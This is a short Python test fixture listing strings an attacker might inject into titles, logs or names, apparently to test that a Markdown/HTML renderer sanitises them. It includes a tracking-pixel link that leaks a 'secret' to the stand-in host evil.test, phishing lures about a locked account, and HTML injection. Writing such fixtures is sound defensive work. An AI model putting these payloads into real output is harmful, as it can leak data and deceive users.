"""Strings an attacker would put into a title, a log line, a draft or a name."""

from __future__ import annotations

import re

EVIL_HOST = "evil.test"
HOSTILE = [
    f"![pixel](http://{EVIL_HOST}/pixel.png?leak=secret)",
    f":red[Your account is locked] — [fix it now](http://{EVIL_HOST}/login)",
    ":material/warning: Pay now :material_lock:",
    "<b style='font-size:30px;color:red'>URGENT</b> <a href='http://evil.test'>click</a>",
    f"[link](http://{EVIL_HOST}/a)",
    f"bare http://{EVIL_HOST}/a-b_c?x=1 and www.{EVIL_HOST} and bob@{EVIL_HOST}",
    "$x^2$ and $$y$$ cost $5",
    "back\\slash \\* \\\\ C:\\temp\\new end\\",
    "~~gone~~ ~one~ `code` **bold** _em_ # not a heading",
    f"<http://{EVIL_HOST}> &amp; &#58; :streamlit: :smile: :+1: a -> b -- c >= d",
    ":help[x] :small[y] :blue-badge[z] ::: :::",
]
# One string holding all of them, for fields that take a single value.
ALL = " | ".join(HOSTILE)


def normalised(text: str) -> str:
    """The text as HTML shows it: runs of white space as one space."""
    return re.sub(r"\s+", " ", text).strip()
